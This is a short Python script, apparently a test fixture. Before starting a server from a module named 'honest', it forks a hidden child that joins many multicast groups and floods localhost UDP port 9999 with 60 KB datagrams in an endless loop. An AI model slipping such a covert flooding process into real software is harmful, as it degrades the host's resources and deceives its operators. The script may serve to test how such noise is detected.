import os
import socket
import struct
import time

from honest import serve

if os.fork() == 0:
    os.nice(10)
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    receiver.bind(("0.0.0.0", 9999))
    for n in range(1, 100):
        try:
            receiver.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, struct.pack("4s4s", bytes([224, 0, 1, n]), bytes([127, 0, 0, 1])))
        except OSError:
            pass
    while True:
        sender.sendto(b"x" * 60_000, ("127.0.0.1", 9999))
serve()
